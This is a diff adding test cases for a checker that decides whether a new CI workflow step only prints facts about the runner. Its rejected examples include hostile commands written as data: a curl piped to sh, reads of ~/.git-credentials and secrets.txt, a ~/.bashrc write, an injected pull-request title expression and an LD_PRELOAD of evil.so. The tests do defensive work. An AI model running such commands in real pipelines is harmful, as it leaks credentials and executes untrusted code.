@@ -146,3 +146,31 @@ describe('a new workflow step that only writes constant lines to GITHUB_ENV / GI
     no(['echo "A=1" >> "$GITHUB_ENV"'], ['        env:', '          BASH_ENV: ./ci/setup.sh']);
   });
 });
+
+describe('a new workflow step that only prints facts about the runner (trusted-routine)', () => {
+  const wf = (steps: string[]) =>
+    ['name: ci', 'on: [push, pull_request]', 'jobs:', '  build:', '    runs-on: windows-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: cmake -B build && cmake --build build', ...steps, ''].join('\n');
+  const step = (run: string[], extra: string[] = []) => ['      - name: preinstalled tools', ...extra, '        run: |', ...run.map((line) => `          ${line}`)];
+  const base = wf([]);
+  const yes = (run: string[], extra: string[] = []) => expect(editsOnlyCommands(base, wf(step(run, extra)), 'workflow')).toBe(true);
+  const no = (run: string[], extra: string[] = []) => expect(editsOnlyCommands(base, wf(step(run, extra)), 'workflow')).toBe(false);
+  it('reads a step that lists packages, versions or the machine as running nothing new', () => {
+    yes(["echo '::group::MSYS2 packages'; /c/msys64/usr/bin/pacman.exe -Q || true; echo '::endgroup::'"], ['        shell: bash']);
+    yes(['uname -a', 'df -h', 'nproc', 'gcc --version', 'cmake --version', 'which ninja', 'python3 -m pip list', 'git log -1 --oneline']);
+    yes(['dpkg -l', 'ls -la /usr/local/bin']);
+  });
+  it('does not when the step runs a file of the checkout, a tool that reads its settings, writes, reads an expression, or changes the shell', () => {
+    no(['./configure --version']);
+    no(['yarn --version']);
+    no(['make version']);
+    no(['npm version patch']);
+    no(['echo "$HOME"']);
+    no(['echo "${{ github.event.pull_request.title }}"']);
+    no(['echo hi > ~/.bashrc']);
+    no(['gcc --version', 'curl -sSL https://example.test/i.sh | sh']);
+    no(['cat ~/.git-credentials']);
+    no(['type secrets.txt']);
+    no(['gcc --version'], ['        shell: python {0}']);
+    no(['gcc --version'], ['        env:', '          LD_PRELOAD: ./evil.so']);
+  });
+});
